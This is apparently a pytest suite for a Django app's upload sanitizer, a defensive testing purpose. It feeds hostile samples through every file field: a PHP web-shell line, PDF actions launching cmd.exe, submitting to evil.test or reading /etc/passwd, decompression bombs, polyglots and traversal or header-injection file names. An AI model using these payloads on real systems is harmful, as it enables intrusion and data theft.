"""Bad files through every field that takes one (reliability.md §4F): refused with a sentence, or stored re-encoded and bare."""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core import files
from tests.bantu import alur, formulir, penilai
from tests.masukan.test_formulir import PERAN, formulir_milik, langkah_kedua

PDF = alur.PDF
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def png(lebar: int, tinggi: int) -> bytes:
    """A small file that says it is a huge picture."""

    def bagian(jenis: bytes, isi: bytes) -> bytes:
        return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))

    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + bagian(b"IHDR", kepala)
        + bagian(b"IDAT", zlib.compress(b"\0" * 10_000))
        + bagian(b"IEND", b"")
    )


def jpeg_bermetadata() -> bytes:
    """GPS, camera, comment, thumbnail bytes and a script behind the end of the picture."""
    gambar = Image.new("RGB", (300, 200), (120, 90, 60))
    exif = gambar.getexif()
    exif[0x010F], exif[0x0112] = "RAHASIA-KAMERA", 6
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 13.0, 40.0), 3: "E", 4: (107.0, 54.0, 0.0)})
    keluar = io.BytesIO()
    gambar.save(
        keluar, "JPEG", exif=exif, comment=b"RAHASIA-KOMENTAR", xmp=b"<x:xmpmeta>RAHASIA-XMP</x:xmpmeta>"
    )
    return keluar.getvalue() + HTML


BURUK = {
    "§4.89 900 Mpx": png(30_000, 30_000), "§4.90 169 Mpx": png(13_000, 13_000), "§4.92 SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "§4.92 HTML": HTML, "§4.92 PHP": b"<?php system($_GET[0]);", "§4.91 truncated": alur.foto()[:400], "§4.96 empty": b"",
    "§4.96 more than 10 MB": alur.foto() + b"\0" * 10_000_001, "§4.97 HEIC": b"\0\0\0\x18ftypheic" + b"\0" * 100, "§4.85 zip": b"PK\x03\x04" + b"\0" * 200,
    "GIF": b"GIF89a" + b"\0" * 50,
    "§4.93 JavaScript": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "§4.93 launch": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "§4.93 embedded file": PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 2 0 R>>"),
    "§4.93 encrypted": PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"), "§4.93 cut off": PDF[:30],
    "§4.93 hidden name": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
}  # fmt: skip


def png_teks(jumlah: int) -> bytes:
    """A picture whose comment unpacks to very much."""
    tanda, akhir = alur_png(), b"IEND"
    isi = b"Comment\0\0" + zlib.compress(b"a" * jumlah, 9)
    bagian = struct.pack(">I", len(isi)) + b"zTXt" + isi + struct.pack(">I", zlib.crc32(b"zTXt" + isi))
    ke = tanda.rindex(akhir) - 4
    return tanda[:ke] + bagian + tanda[ke:]


def alur_png() -> bytes:
    keluar = io.BytesIO()
    Image.new("RGB", (8, 8)).save(keluar, "PNG")
    return keluar.getvalue()


def pdf_paket(
    isi: bytes, kepala: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", *, peras: bool = True
) -> bytes:
    """A PDF whose objects lie packed in a stream, where a search of the file's bytes does not see them."""
    dalam = zlib.compress(isi) if peras else isi
    aliran = (
        b"5 0 obj\n<<" + kepala + b"/Length %d>>\nstream\n" % len(dalam) + dalam + b"\nendstream\nendobj\n"
    )
    return PDF.replace(b"trailer", aliran + b"trailer")


JS = b"1 0 <</Type/Action/S/JavaScript/JS(app.alert(1))>>"
# More of it: the default run tries them on the cleaning itself, `--fuzz` through every file field of every role.
LAGI = {
    "§4.93 JavaScript packed": pdf_paket(JS), "§4.93 packed, spelled with #": pdf_paket(JS.replace(b"Java", b"J#61va"), b"/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode"),
    "§4.93 capitals spelled with #": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Java#53cript/JS(app.alert(1))>>"),
    "§4.93 packed, not pressed": pdf_paket(JS, b"/Type/ObjStm/N 1/First 4", peras=False),
    "§4.93 packed twice": pdf_paket(zlib.compress(JS), b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]"),
    "§4.93 packed in another way": pdf_paket(JS, b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", peras=False),
    "§4.93 packed behind a false end": pdf_paket(JS, b"/Type/ObjStm/X(endobj)/N 1/First 4/Filter/FlateDecode"),
    "§4.93 packed bomb": pdf_paket(b" " * 30_000_000), "§4.93 packed, broken": pdf_paket(b"abc", peras=False),
    "§4.93 sends a form": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/SubmitForm/F(http://evil.test)>>"),
    "§4.93 reads a file": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/ImportData/F(/etc/passwd)>>"),
    "§4.93 XFA": PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA[(a) 2 0 R]>>"),
    "§4.92 PDF and ZIP": PDF + b"PK\x05\x06" + b"\0" * 18, "§4.92 PDF behind a script": b"<script>1</script>" + PDF,
    "§4.92 picture of PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n", "§4.92 TIFF": b"II*\0" + b"\0" * 100,
    "§4.92 HTML called PNG": b"\x89PNG\r\n\x1a\n" + HTML, "§4.92 ELF": b"\x7fELF" + b"\0" * 100, "§4.92 SVG behind a comment": b"<!-- -->" * 50 + b"<svg onload='alert(1)'/>",
    "§4.90 text bomb in a PNG": png_teks(200_000_000),
    "§4.94 EICAR": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}  # fmt: skip
NAMA = (
    "../../etc/x.php",
    "a\0.jpg",
    "n" * 300 + ".jpg",
    "\u202egpj.exe",
    "CON",
    "..",
    "😀.jpg",
    "a.php.jpg",
    'a";x="b.jpg',
    "a\r\nX: 1.jpg",
    "",
)


def test_foto_disimpan_tanpa_metadata():
    asli = jpeg_bermetadata()
    assert b"RAHASIA" in asli
    bersih = files.clean_photo(asli)
    gambar = Image.open(io.BytesIO(bersih))
    assert gambar.size == (200, 300), "turned upright as the camera meant"
    assert not gambar.getexif() and set(gambar.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert b"RAHASIA" not in bersih and b"<script" not in bersih and b"Exif" not in bersih


@pytest.mark.parametrize("nama", [n for n in BURUK if "93" not in n])
def test_foto_buruk_ditolak_dengan_kalimat(nama):
    with pytest.raises(files.BadFile) as galat:
        files.clean_photo(BURUK[nama])
    assert penilai.KALIMAT.search(str(galat.value)) and not penilai.BUKAN_BAHASA_KITA.search(str(galat.value))


@pytest.mark.parametrize("nama", BURUK | LAGI)
def test_pindaian_buruk_ditolak_dengan_kalimat(nama):
    with pytest.raises(files.BadFile) as galat:
        files.clean_scan((BURUK | LAGI)[nama])
    assert penilai.KALIMAT.search(str(galat.value)) and not penilai.BUKAN_BAHASA_KITA.search(str(galat.value))


def test_pdf_yang_dikemas_pemindai_biasa_diterima():
    """A scanner packs its objects too; a signature makes a form. Neither is an attack."""
    for isi in (
        pdf_paket(b"1 0 <</Type/Page/MediaBox[0 0 595 842]>>"),
        PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</SigFlags 3>>"),
        PDF,
    ):
        assert files.clean_scan(isi) == (isi, "application/pdf")


def test_foto_dengan_isi_lain_di_dalamnya_disimpan_tanpa_isi_itu():
    """Polyglots: a picture that is also an archive, a script or a page."""
    for ekor in (
        HTML,
        b"PK\x03\x04" + b"\0" * 60 + b"PK\x05\x06" + b"\0" * 18,
        b"<?php system($_GET[0]);",
        PDF,
        b"GIF89a=1//",
    ):
        for asli in (alur.foto() + ekor, png_berkomentar(ekor)):
            bersih = files.clean_photo(asli)
            assert bersih[:3] == b"\xff\xd8\xff" and ekor not in bersih and ekor[:5] not in bersih


def png_berkomentar(isi: bytes) -> bytes:
    tanda = alur_png()
    isi = b"Comment\0" + isi
    bagian = struct.pack(">I", len(isi)) + b"tEXt" + isi + struct.pack(">I", zlib.crc32(b"tEXt" + isi))
    ke = tanda.rindex(b"IEND") - 4
    return tanda[:ke] + bagian + tanda[ke:]


@pytest.mark.parametrize("peran", ["operator", "tksk"])
def test_unggahan_buruk_lewat_setiap_formulir(peramban, peran):
    assert unggah(peramban, peran, BURUK), "no file field was found"


@pytest.mark.fuzz
@pytest.mark.timeout(3600)
@pytest.mark.parametrize("peran", PERAN)
def test_semua_unggahan_lewat_semua_formulir(peramban, peran, lapor):
    """Every role, the visitor too, also in forms that come as the answer to another one."""
    kolom = unggah(peramban, peran, BURUK | LAGI, langkah_lanjut=True)
    if not kolom:
        pytest.skip("this role reaches no file field")
    lapor(f"{kolom} file fields x {len(BURUK | LAGI)} files and {len(NAMA)} names")


def unggah(peramban, peran: str, buruk: dict[str, bytes], *, langkah_lanjut: bool = False) -> int:
    """Every bad file and every odd name through each file field; how many fields there were."""
    client = peramban(peran)
    if langkah_lanjut:
        pengirim, temuan = formulir_milik(peramban, peran)
        temuan += langkah_kedua(pengirim, temuan, sampai_habis=not peran)
    else:
        _, temuan = formulir.jelajah_petugas(client, peran)
        pengirim = formulir.Pengirim(client)
    salah, kolom = [], 0
    for t in temuan:
        for k in (k for k in t.kolom() if k.tipe == "file"):
            kolom += 1
            for nama, isi in buruk.items():
                salah += [
                    f"{t.sidik[0]} {nama}: {s}"
                    for s in _satu(pengirim, t, k.nama, SimpleUploadedFile("a.jpg", isi, "image/jpeg"))
                ]
            baik = PDF if "pdf" in k.accept else alur.foto()
            for nama in NAMA:
                b = pengirim.kirim(t, formulir.isian_sah(t) | {k.nama: [_bernama(nama, baik)]})
                if b.jawab.status_code >= 500 or penilai.sampah(b.isi) or any("../" in s for s in b.isi):
                    salah.append(
                        f"{t.sidik[0]} name {nama[:20]!r}: {b.jawab.status_code} {penilai.sampah(b.isi)}"
                    )
    assert not salah, "\n".join(salah[:60])
    return kolom


def _bernama(nama: str, isi: bytes) -> SimpleUploadedFile:
    berkas = SimpleUploadedFile("a.jpg", isi, "image/jpeg")
    berkas._name = nama.replace("\r\n", " ").replace(
        '"', "'"
    )  # as a client may write it; Django cleans what it reads
    return berkas


def _satu(pengirim, t, kolom: str, berkas: SimpleUploadedFile) -> list[str]:
    b = pengirim.kirim(t, formulir.isian_sah(t) | {kolom: [berkas]})
    if b.jawab.status_code >= 500:
        return [f"{b.jawab.status_code} {b.jawab.exc_info}"]
    salah = [f"{b.detik:.1f} s"] if b.detik > 10 else []
    if (
        t.sidik[0] == "impor_daftar" and "core_berkas" in b.ditulis
    ):  # the worker reads the table and refuses it
        return salah
    if "core_berkas" in b.ditulis:
        return [*salah, "stored"]
    isi = b.halaman
    if t.sidik[0].startswith("dokumen"):  # only compared, never stored
        return salah
    if isi is None or not any(penilai.KALIMAT.search(g) for g in isi.galat):
        return [*salah, "refused without a sentence"]
    return salah + [f"bukan bahasa kita: {g}" for g in isi.galat if penilai.BUKAN_BAHASA_KITA.search(g)]
